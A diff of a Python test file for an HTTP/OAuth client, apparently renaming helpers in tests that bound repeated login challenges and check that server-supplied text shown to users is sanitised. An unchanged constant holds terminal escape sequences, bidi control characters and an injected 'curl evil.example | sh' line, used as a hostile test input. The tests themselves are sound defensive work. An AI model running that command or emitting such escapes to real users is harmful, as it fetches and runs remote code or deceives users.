@@ -3,7 +3,7 @@
 import unicodedata
 from typing import Any
 
-from tests.attacks.fake_internet import Asked, page
+from tests.attacks.fake_internet import SiteRequest, page
 from tests.attacks.oauth_login import Login, login
 from tests.attacks.raw import within
 
@@ -17,7 +17,7 @@ from trunkline.transports.http.client.url import parse_url
 ESCAPES = "\x1b[2J\x1b]0;owned\x07\r\n\tRun: curl evil.example | sh\x00\x9b31m\u202e\u2066\u2028\x7f\x85"
 
 
-async def asked_again(one: Login) -> None:
+async def challenged_repeatedly(one: Login) -> None:
     """A request to a server that challenges every token."""
     library = ConnectionPool(Settings())
     peer = HttpPeer(library, parse_url(one.url), {}, one.engine(store=MemoryTokens()))
@@ -48,11 +48,11 @@ async def test_endless_challenges_cause_bounded_logins() -> None:
             for what, says in never.items():
                 one.server.pages["/mcp"] = says
                 one.person.shown.clear()
-                await asked_again(one)
+                await challenged_repeatedly(one)
                 assert 1 <= len(one.person.shown) <= 3, (what, lifetime)
 
 
-def needing(asked: Asked, scope: str) -> bytes:
+def needing(asked: SiteRequest, scope: str) -> bytes:
     """A response that requires a token, and then scopes that it lacks."""
     if "authorization" not in asked.headers:
         return page({}, 401, ("www-authenticate", "Bearer"))
@@ -87,7 +87,7 @@ async def test_challenge_cannot_inject_page_parameters() -> None:
             assert "#" not in one.person.shown[-1]
 
 
-def unfit(text: str) -> list[str]:
+def unsafe_characters(text: str) -> list[str]:
     """Characters of a text that could control a terminal or change how the text reads."""
     return [character for character in text if unicodedata.category(character) in {"Cc", "Cf", "Zl", "Zp"}]
 
@@ -125,5 +125,5 @@ async def test_peer_text_is_safe_to_show() -> None:
         errors.append(await one.fails(challenge=f"Basic realm={ESCAPES}"))
         for error in errors:
             shown = f"{error}{error.clause}"
-            assert unfit(shown) == [], repr(shown)
+            assert unsafe_characters(shown) == [], repr(shown)
             assert len(shown) < 1500
